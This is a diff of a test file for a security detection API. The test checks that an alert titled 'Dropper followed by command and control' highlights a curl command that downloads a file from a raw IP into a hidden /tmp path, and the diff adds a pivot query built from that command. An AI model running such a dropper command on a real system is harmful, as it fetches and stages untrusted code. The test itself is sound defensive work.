@@ -70,7 +70,7 @@ describe('detection API', () => {
     expect(web).toHaveLength(1);
     const one = (await get(`/api/v1/alerts/${web[0].id}`)).json();
     expect(one).toMatchObject({ title: 'Dropper followed by command and control', status: 'new', score: 99, level: 'critical' });
-    expect(one.highlights.commands[0]).toEqual({ value: 'curl -s -o /tmp/.x200 http://203.0.113.5/x', count: 1, event_ids: ['web1-200:1'] });
+    expect(one.highlights.commands[0]).toEqual({ value: 'curl -s -o /tmp/.x200 http://203.0.113.5/x', count: 1, event_ids: ['web1-200:1'], pivot: 'process.command_line:"curl -s -o /tmp/.x200 http://203.0.113.5/x"' });
     expect(one.highlights.destination_ips[0].event_ids).toEqual(['web1-200:4']);
     expect(one.evidence.map((o: { rule_id: string }) => o.rule_id)).toEqual(['g-download-tmp', 'g-chmod-tmp', 'g-exec-tmp', 'g-c2-from-tmp']);
     expect((await get('/api/v1/alerts?status=closed')).json().alerts).toHaveLength(0);
